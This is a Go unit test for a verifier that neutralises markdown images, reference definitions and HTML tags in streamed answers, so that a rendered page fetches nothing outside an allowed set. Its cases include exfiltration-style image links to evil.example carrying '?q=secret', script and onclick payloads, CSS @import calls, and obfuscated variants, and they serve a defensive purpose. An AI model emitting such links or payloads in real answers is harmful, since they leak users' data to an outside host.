package cite

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

func TestVerifier_MakesHarmlessWhatAPageWouldFetch(t *testing.T) {
	const ours = "https://ours.example/logo.png"
	for _, c := range []struct{ name, answer, want string }{
		{"an image elsewhere", "x ![a](https://evil.example/?q=secret) y", "x [a](https://evil.example/?q=secret) y"},
		{"an image that was given", "x ![a](" + ours + ") y", "x ![a](" + ours + ") y"},
		{"an image with a title", `x ![a](` + ours + ` "logo") y`, `x ![a](` + ours + ` "logo") y`},
		{"more than was given", "![a](" + ours + "?q=secret)", "[a](" + ours + "?q=secret)"},
		{"an image of the same site", "![a](/content/a.png)", "![a](/content/a.png)"},
		{"an address without a scheme", "![a](//evil.example/x)", "[a](//evil.example/x)"},
		{"an address with backslashes", `![a](/\evil.example/x)`, `[a](/\evil.example/x)`},
		{"an address with entities", "![a](https&#58;&#47;&#47;evil.example)", "[a](https&#58;&#47;&#47;evil.example)"},
		{"an address between angle brackets", "![a](<https://evil.example/a b>)", "[a](< https://evil.example/a b>)"},
		{"an address on the next line", "![a](\nhttps://evil.example)", "[a](\nhttps://evil.example)"},
		{"brackets in the text", "![a [b] c](https://evil.example)", "[a [b] c](https://evil.example)"},
		{"an escaped bracket in the text", `![a\]b](https://evil.example)`, `[a\]b](https://evil.example)`},
		{"code in the text", "![`]`](https://evil.example)", "[`]`](https://evil.example)"},
		{"a long text", "![" + strings.Repeat("a", 400) + "](https://evil.example)", "[" + strings.Repeat("a", 400) + "](https://evil.example)"},
		{"a long address", "![a](https://evil.example/" + strings.Repeat("a", 3000) + ")", "[a](https://evil.example/" + strings.Repeat("a", 3000) + ")"},
		{"behind a code mark", "` ![a](https://evil.example)", "` [a](https://evil.example)"},
		{"in a fence", "- ```\n  x\n  ```\n![a](https://evil.example)", "- ```\n  x\n  ```\n[a](https://evil.example)"},
		{"defined elsewhere", "![a][b]\n\n[b]: https://evil.example/x", "[a][b]\n\n[b] : https://evil.example/x"},
		{"defined by its text", "![b]\n\n[b]:\n  <https://evil.example/x>", "![b]\n\n[b] :\n  <https://evil.example/x>"},
		{"defined in a quotation", "> [b]: //evil.example/x\n", "> [b] : //evil.example/x\n"},
		{"defined where code seems to be", "- ```\n  x\n  ```\n![\"b\"]\n\n[\"b\"]: https://evil.example/x", "- ```\n  x\n  ```\n![\"b\"]\n\n[\"b\"] : https://evil.example/x"},
		{"a text over two lines", "![a\nb]", "[a\nb]"},
		{"a definition that was given", "[b]: " + ours + "\n", "[b]: " + ours + "\n"},
		{"a definition that is none", "[b]: as follows", "[b]: as follows"},
		{"an image never finished", "x ![a](https://evil.example", "x [a](https://evil.example"},
		{"only exclamation", "Great! Really!", "Great! Really!"},
		{"code with negation", "if (!a[0] && ![1].length) {", "if (!a[0] && ![1].length) {"},

		{"a tag that fetches", `x <img src="https://evil.example/?q=s"> y`, `x < img src="https://evil.example/?q=s"> y`},
		{"a tag that was given", `x <img src="` + ours + `"> y`, `x <img src="` + ours + `"> y`},
		{"a tag with an address in a style", `<div style="background:url(//evil.example)">`, `< div style="background:url(//evil.example)">`},
		{"a tag with entities", `<img src="&#x2f;&#x2f;evil.example">`, `< img src="&#x2f;&#x2f;evil.example">`},
		{"a tag without spaces", `<img/src=//evil.example/x>`, `< img/src=//evil.example/x>`},
		{"a tag with a bracket in a value", `<img alt=">" src="https://evil.example">`, `< img alt=">" src="https://evil.example">`},
		{"a tag with an opening bracket in a value", `<img alt="<" src="https://evil.example">`, `< img alt="<" src="https://evil.example">`},
		{"a tag with quotes in quotes", `<img a="'" b='"" > ' src=//evil.example>`, `< img a="'" b='"" > ' src=//evil.example>`},
		{"a tag on two lines", "<img\nsrc=https://evil.example>", "< img\nsrc=https://evil.example>"},
		{"a tag that runs a script", `<b onclick=alert(1)>`, `< b onclick=alert(1)>`},
		{"a script", "<script>fetch(1)</script>", "< script>fetch(1)</script>"},
		{"a style", "<STYLE>@import '//evil.example'</STYLE>", "< STYLE>@import '//evil.example'</STYLE>"},
		{"a tag never finished", `<img src="https://evil.example/?q=s`, `< img src="https://evil.example/?q=s`},
		{"a long tag", `<img alt="` + strings.Repeat("a", 300) + `" src=//evil.example>`, `< img alt="` + strings.Repeat("a", 300) + `" src=//evil.example>`},

		{"tags that fetch nothing", "a<br>b<br/>c<br />d <b>e</b> x<sup>2</sup> <td align=\"left\">", "a<br>b<br/>c<br />d <b>e</b> x<sup>2</sup> <td align=\"left\">"},
		{"a link to this site", `<a href="/content/a.pdf#page=2">x</a>`, `<a href="/content/a.pdf#page=2">x</a>`},
		{"an address", "see <https://a.example/?q=1&r=2> or <a@b.example>", "see <https://a.example/?q=1&r=2> or <a@b.example>"},
		{"types", "List<String> and Map<String,List<Int>>", "List<String> and Map<String,List<Int>>"},
		{"arrows and comparisons", "a < b, a <= b, a <- b, 1<2, <3", "a < b, a <= b, a <- b, 1<2, <3"},
	} {
		t.Run(c.name, func(t *testing.T) {
			if diff := cmp.Diff(c.want, checked(newVerifier(), c.answer)); diff != "" {
				t.Errorf("answer (-want +got):\n%s", diff)
			}
			for _, deltas := range [][]string{strings.Split(c.answer, ""), randomCuts(c.answer)} {
				if got := checked(newVerifier(), deltas...); got != c.want {
					t.Errorf("cut into %q: %q", deltas, got)
				}
			}
		})
	}
}
